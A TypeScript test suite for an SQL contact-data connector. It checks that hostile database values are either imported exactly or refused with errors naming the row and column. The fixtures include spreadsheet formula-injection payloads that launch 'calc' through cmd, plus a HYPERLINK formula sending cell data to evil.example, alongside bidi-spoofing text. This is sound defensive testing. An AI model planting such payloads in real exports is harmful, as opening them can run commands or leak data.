/**
 * Hostile content in a customer's database, read through real SQLite files and a real
 * PostgreSQL server: each value is either imported verbatim or refused with a typed
 * `InvalidData` naming the row and the column — never a crash, never a hang, and never a
 * half-applied window (checked through the engine with its durable SQLite store).
 *
 * Decisions (README, *Hostile content*): formula-like text, control characters, bidi
 * controls, emoji and 64-bit integer identifiers are kept verbatim; NUL characters, U+FFFD
 * (what a driver makes of bytes that are not valid text), lone UTF-16 surrogates, text past
 * 255 characters, NaN, ±Infinity and numbers too large to be exact are refused.
 */
import { Domain } from "@acd-bridge/core"
import { ConnectorRegistry } from "@acd-bridge/core"
import { createIntegration, engineIntervals, engineLayer, importWindow } from "@acd-bridge/e2e-harness"
import { afterAll, assert, beforeAll, describe, it } from "@effect/vitest"
import Database from "better-sqlite3"
import * as DateTime from "effect/DateTime"
import * as Duration from "effect/Duration"
import * as Effect from "effect/Effect"
import * as Either from "effect/Either"
import * as Schema from "effect/Schema"
import { randomBytes } from "node:crypto"
import * as path from "node:path"
import pg from "pg"
import { SqlConfig } from "../src/SqlConfig.js"
import * as SqlConnector from "../src/SqlConnector.js"
import { decodeContact } from "../src/internal/rows.js"
import { collect, merge, tempDir, window } from "./fixtures.js"

/** Fails instead of hanging (see ExitPaths.test.ts). */
const bounded = <A, E>(effect: Effect.Effect<A, E>, seconds = 20) =>
  effect.pipe(
    Effect.disconnect,
    Effect.timeoutFail({
      duration: Duration.seconds(seconds),
      onTimeout: () => new Error(`no answer within ${seconds} s`)
    })
  )

const megabyte = (c: string) => c.repeat(1024 * 1024)

/** text kept exactly as the source has it */
const verbatim = {
  formula: "=cmd|' /C calc'!A0",
  hyperlink: "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
  plus: "+1+1",
  minus: "-2+3",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  controls: "a\u0001b\u001fc\u007fd\te\r\nf\u0085g\u2028h",
  bidi: "support\u202Etroppus\u202C",
  emoji: "Support 🎧 Ünïcödé 日本"
}

type Outcome = Either.Either<Domain.Batch, { readonly _tag: string; readonly message: string }>

const assertRefused = (outcome: Outcome, row: number, column: string, why: string) => {
  if (Either.isRight(outcome)) assert.fail(`expected InvalidData for column ${column}, got a batch`)
  assert.strictEqual(outcome.left._tag, "InvalidData", outcome.left.message)
  assert.include(outcome.left.message, `contacts row ${row}`)
  assert.include(outcome.left.message, `column ${column}`)
  assert.include(outcome.left.message, why)
  assert.isBelow(outcome.left.message.length, 600, "the message quotes the value whole")
}

// ---------------------------------------------------------------------------
// SQLite
// ---------------------------------------------------------------------------

const sqliteFile = path.join(tempDir(), "hostile.sqlite")
{
  const db = new Database(sqliteFile)
  db.exec(`CREATE TABLE contacts (kind TEXT, n INTEGER, queue_id, queue_name, channel, ts, offered, handled, seconds)`)
  const insert = db.prepare("INSERT INTO contacts VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)")
  const ts = "2026-03-02T09:20:00Z"
  const row = (kind: string, n: number, over: Partial<Record<string, unknown>> = {}) => {
    const r = { queue_id: "Q1", queue_name: "Queue", channel: "calls", ts, offered: 1, handled: 1, seconds: 30, ...over }
    insert.run(kind, n, r.queue_id, r.queue_name, r.channel, r.ts, r.offered, r.handled, r.seconds)
  }
  Object.values(verbatim).forEach((text, i) => row("verbatim", i, { queue_id: text, queue_name: text }))
  row("bigid", 0, { queue_id: 9007199254740993n })
  row("mbname", 0, { queue_name: megabyte("x") })
  row("mbdigits", 0, { seconds: megabyte("9") })
  row("mbdigitsx", 0, { seconds: megabyte("9") + "x" })
  row("mbts", 0, { ts: megabyte("x") })
  row("mbtsdigits", 0, { ts: megabyte("2") })
  row("mbchannel", 0, { channel: megabyte("c") })
  row("nul", 0, { queue_name: "Queue\u0000 1" })
  db.prepare("INSERT INTO contacts VALUES ('badutf8', 0, 'Q1', CAST(X'5175657565FF31' AS TEXT), 'calls', ?, 1, 1, 30)").run(ts)
  row("infinity", 0, { seconds: 1e308 * 10 })
  row("hugeseconds", 0, { seconds: 9007199254740993n })
  row("nan", 0, { seconds: "NaN" })
  // a window whose last row is bad, after 600 good ones: batches were emitted before it
  for (let n = 0; n < 600; n++) row("late", n, { queue_id: `Q${n % 2}` })
  row("late", 600, { channel: "Telephone" })
  db.close()
}

/** the rows of one kind in the window (a timestamp that isn't one is read whatever the window) */
const sqliteConfig = (kind: string, extra: Record<string, unknown> = {}) =>
  Schema.decodeUnknownSync(SqlConfig)({
    driver: "sqlite",
    connection: { filename: sqliteFile },
    contacts: {
      query: `SELECT queue_id AS queue_identifier, queue_name, channel, ts AS timestamp, offered, handled,
              seconds AS duration FROM contacts
              WHERE kind = '${kind}' AND (ts >= :from AND ts < :to OR length(ts) > 100) ORDER BY n`
    },
    ...extra
  })

const pullOutcome = (config: SqlConfig) =>
  bounded(Effect.either(Effect.map(collect(SqlConnector.pull(config, window)), merge))) as Effect.Effect<
    Outcome,
    Error
  >

describe("hostile content from SQLite", () => {
  it.live("formula-like text, control characters, bidi controls and emoji are imported verbatim", () =>
    Effect.gen(function*() {
      const outcome = yield* pullOutcome(sqliteConfig("verbatim"))
      const batch = Either.getOrThrow(outcome)
      assert.deepStrictEqual(batch.contacts.map((c) => c.queueIdentifier), Object.values(verbatim))
      assert.deepStrictEqual(batch.contacts.map((c) => c.queueName), Object.values(verbatim))
      Schema.validateSync(Domain.Batch)(batch)
    }))

  it.live("an INTEGER identifier past 2^53 is kept digit for digit", () =>
    Effect.gen(function*() {
      const batch = Either.getOrThrow(yield* pullOutcome(sqliteConfig("bigid")))
      assert.strictEqual(batch.contacts[0]!.queueIdentifier, "9007199254740993")
    }))

  it.live("1 MB cells: refused naming the row and column, quickly, with a short message", () =>
    Effect.gen(function*() {
      const started = Date.now()
      assertRefused(yield* pullOutcome(sqliteConfig("mbname")), 1, "queue_name", "longer than 255 characters")
      assertRefused(yield* pullOutcome(sqliteConfig("mbdigits")), 1, "duration", "too large")
      assertRefused(yield* pullOutcome(sqliteConfig("mbdigitsx")), 1, "duration", "is not a number")
      assertRefused(yield* pullOutcome(sqliteConfig("mbts")), 1, "timestamp", "is not a timestamp")
      assertRefused(yield* pullOutcome(sqliteConfig("mbtsdigits")), 1, "timestamp", "is not a time")
      assertRefused(yield* pullOutcome(sqliteConfig("mbchannel")), 1, "channel", "is not a channel")
      assert.isBelow(Date.now() - started, 10_000)
    }))

  it.live("NUL characters and bytes that are not valid text are refused, not altered", () =>
    Effect.gen(function*() {
      assertRefused(yield* pullOutcome(sqliteConfig("nul")), 1, "queue_name", "NUL")
      assertRefused(yield* pullOutcome(sqliteConfig("badutf8")), 1, "queue_name", "U+FFFD")
    }))

  it.live("Infinity, NaN and numbers too large to be exact are refused", () =>
    Effect.gen(function*() {
      assertRefused(yield* pullOutcome(sqliteConfig("infinity")), 1, "duration", "Infinity is not a number")
      assertRefused(yield* pullOutcome(sqliteConfig("hugeseconds")), 1, "duration", "too large")
      assertRefused(yield* pullOutcome(sqliteConfig("nan")), 1, "duration", "\"NaN\" is not a number")
    }))

  it.effect("a window with a bad last row is not applied at all; what was there stays", () =>
    Effect.gen(function*() {
      const from = DateTime.toEpochMillis(window.from)
      const to = DateTime.toEpochMillis(window.to)
      const config = (kind: string) => Schema.encodeSync(SqlConfig)(sqliteConfig(kind, { batchSize: 2 }))
      const integration = yield* createIntegration("sql", config("verbatim"), "UTC")
      yield* importWindow(integration, from, to)
      const before = yield* engineIntervals(integration, from, to, 15, "UTC")
      assert.strictEqual(before.reduce((n, r) => n + r.offered, 0), Object.keys(verbatim).length)
      // the source now holds a window whose 601st row can't be read (hundreds of batches of 2
      // are emitted before it)
      const changed = { ...integration, config: config("late") }
      const error = yield* Effect.flip(importWindow(changed, from, to))
      assert.strictEqual(error._tag, "InvalidData")
      assert.include(error.message, "contacts row 601")
      assert.include(error.message, "column channel")
      assert.deepStrictEqual(yield* engineIntervals(integration, from, to, 15, "UTC"), before)
    }).pipe(Effect.provide(engineLayer(ConnectorRegistry.layer(SqlConnector.connector)))))
})

describe("malformed text at the row level", () => {
  it("a lone UTF-16 surrogate (SQL Server nvarchar can hold one) is refused naming the column", () => {
    const ctx = { zone: DateTime.zoneUnsafeMakeNamed("UTC"), numeric: "epoch_seconds" as const }
    const row = {
      queue_identifier: "Q\uD800",
      queue_name: "Queue",
      channel: "calls",
      timestamp: "2026-03-02T09:20:00Z",
      offered: true,
      handled: true,
      duration: 1
    }
    const lone = decodeContact(row, ctx)
    assert.isTrue(Either.isLeft(lone))
    if (Either.isLeft(lone)) {
      assert.strictEqual(lone.left.column, "queue_identifier")
      assert.include(lone.left.reason, "lone UTF-16 surrogate")
    }
    const trailing = decodeContact({ ...row, queue_identifier: "Q", queue_name: "\uDC00Queue" }, ctx)
    assert.isTrue(Either.isLeft(trailing) && trailing.left.column === "queue_name")
    // a well-formed pair is fine
    assert.isTrue(Either.isRight(decodeContact({ ...row, queue_identifier: "Q\uD83C\uDFA7" }, ctx)))
  })
})

// ---------------------------------------------------------------------------
// PostgreSQL
// ---------------------------------------------------------------------------

const baseUrl = process.env["ACD_BRIDGE_TEST_PG_URL"]
if (!baseUrl) throw new Error("ACD_BRIDGE_TEST_PG_URL is not set: run through vitest with the PostgreSQL globalSetup")
const database = `acd_sql_hostile_${randomBytes(4).toString("hex")}`
const sourceUrl = (() => {
  const u = new URL(baseUrl)
  u.pathname = `/${database}`
  return u.toString()
})()

const admin = async (sql: string, values: ReadonlyArray<unknown> = [], connectionString = baseUrl) => {
  const client = new pg.Client({ connectionString })
  await client.connect()
  try {
    await client.query(sql, [...values])
  } finally {
    await client.end()
  }
}

beforeAll(async () => {
  await admin(`CREATE DATABASE ${database}`)
  await admin(
    `CREATE TABLE contacts (kind text, n int, queue_id text, queue_name text, channel text,
       ts timestamptz DEFAULT '2026-03-02T09:20:00Z', seconds numeric DEFAULT 30, fseconds float8, big bigint)`,
    [],
    sourceUrl
  )
  let n = 0
  for (const text of Object.values(verbatim)) {
    await admin("INSERT INTO contacts (kind, n, queue_id, queue_name, channel) VALUES ('verbatim', $1, $2, $2, 'calls')", [
      n++,
      text
    ], sourceUrl)
  }
  const insert = (kind: string, column: string, value: string) => {
    const row: Record<string, string> = { queue_id: "'Q1'", queue_name: "'Queue'", channel: "'calls'", [column]: value }
    return admin(
      `INSERT INTO contacts (kind, n, ${Object.keys(row).join(", ")}) VALUES ('${kind}', 0, ${Object.values(row).join(", ")})`,
      [],
      sourceUrl
    )
  }
  await insert("bigid", "big", "9223372036854775807")
  await insert("mbname", "queue_name", "repeat('x', 1048576)")
  // the longest numeric PostgreSQL keeps: 131,072 digits before the point
  await insert("mbdigits", "seconds", "('9' || repeat('0', 131071))::numeric")
  await insert("nan", "seconds", "'NaN'")
  await insert("infinity", "fseconds", "'Infinity'")
  await insert("minusinfinity", "fseconds", "'-Infinity'")
  await insert("tsinfinity", "ts", "'infinity'")
  await insert("huge", "seconds", "1e30")
})

afterAll(async () => {
  await admin(`DROP DATABASE IF EXISTS ${database} WITH (FORCE)`)
})

const pgConfig = (kind: string, columns: Partial<Record<"queue_identifier" | "duration" | "timestamp", string>> = {}) =>
  Schema.decodeUnknownSync(SqlConfig)({
    driver: "pg",
    connection: { url: sourceUrl },
    contacts: {
      query: `SELECT ${columns.queue_identifier ?? "queue_id"} AS queue_identifier, queue_name, channel,
              ${columns.timestamp ?? "ts"} AS timestamp, true AS offered, true AS handled,
              ${columns.duration ?? "seconds"} AS duration
              FROM contacts WHERE kind = '${kind}' AND (ts >= :from AND ts < :to OR ts = 'infinity') ORDER BY n`
    }
  })

describe("hostile content from PostgreSQL", () => {
  it.live("formula-like text and control characters are imported verbatim; a bigint identifier digit for digit", () =>
    Effect.gen(function*() {
      const batch = Either.getOrThrow(yield* pullOutcome(pgConfig("verbatim")))
      assert.deepStrictEqual(batch.contacts.map((c) => c.queueIdentifier), Object.values(verbatim))
      assert.deepStrictEqual(batch.contacts.map((c) => c.queueName), Object.values(verbatim))
      const big = Either.getOrThrow(yield* pullOutcome(pgConfig("bigid", { queue_identifier: "big" })))
      assert.strictEqual(big.contacts[0]!.queueIdentifier, "9223372036854775807")
    }))

  it.live("a 1 MB cell and a 131,072-digit numeric are refused naming the row and column, quickly", () =>
    Effect.gen(function*() {
      const started = Date.now()
      assertRefused(yield* pullOutcome(pgConfig("mbname")), 1, "queue_name", "longer than 255 characters")
      assertRefused(yield* pullOutcome(pgConfig("mbdigits")), 1, "duration", "too large")
      assert.isBelow(Date.now() - started, 10_000)
    }))

  it.live("NaN, ±Infinity (numeric, float8, timestamptz) and numbers too large to be exact are refused", () =>
    Effect.gen(function*() {
      assertRefused(yield* pullOutcome(pgConfig("nan")), 1, "duration", "\"NaN\" is not a number")
      assertRefused(yield* pullOutcome(pgConfig("infinity", { duration: "fseconds" })), 1, "duration", "Infinity")
      assertRefused(yield* pullOutcome(pgConfig("minusinfinity", { duration: "fseconds" })), 1, "duration", "Infinity")
      assertRefused(yield* pullOutcome(pgConfig("tsinfinity")), 1, "timestamp", "Infinity")
      assertRefused(yield* pullOutcome(pgConfig("huge")), 1, "duration", "too large")
    }))
})
